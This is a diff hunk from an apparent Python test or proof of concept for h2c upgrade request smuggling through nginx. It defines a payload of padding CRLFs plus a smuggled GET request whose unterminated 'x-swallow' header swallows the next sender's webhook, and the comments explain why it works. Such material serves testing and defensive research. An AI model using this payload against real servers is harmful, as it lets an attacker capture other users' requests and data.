@@ -17,7 +17,7 @@ H2C = ("connection: Upgrade, HTTP2-Settings", "http2-settings: AAMAAABkAAQAAP__"
 # A server that believes the upgrade reads the next segment as a request of its own. nginx sends a body of
 # this size in segments of its own; empty lines in front of a request are skipped by such servers, so that it
 # does not matter where one begins; the last header, which has no end, takes in the next sender's webhook.
-HIDDEN = b"\r\n" * 9_000 + b"GET /healthz HTTP/1.1\r\nhost: x\r\nx-swallow: "
+HIDDEN = b"\r\n" * 9_000 + b"GET /healthz HTTP/1.1\r\nhost: localhost\r\nx-swallow: "
 
 
 async def answer(port: int, head: bytes, body: bytes) -> tuple[int, bytes]:
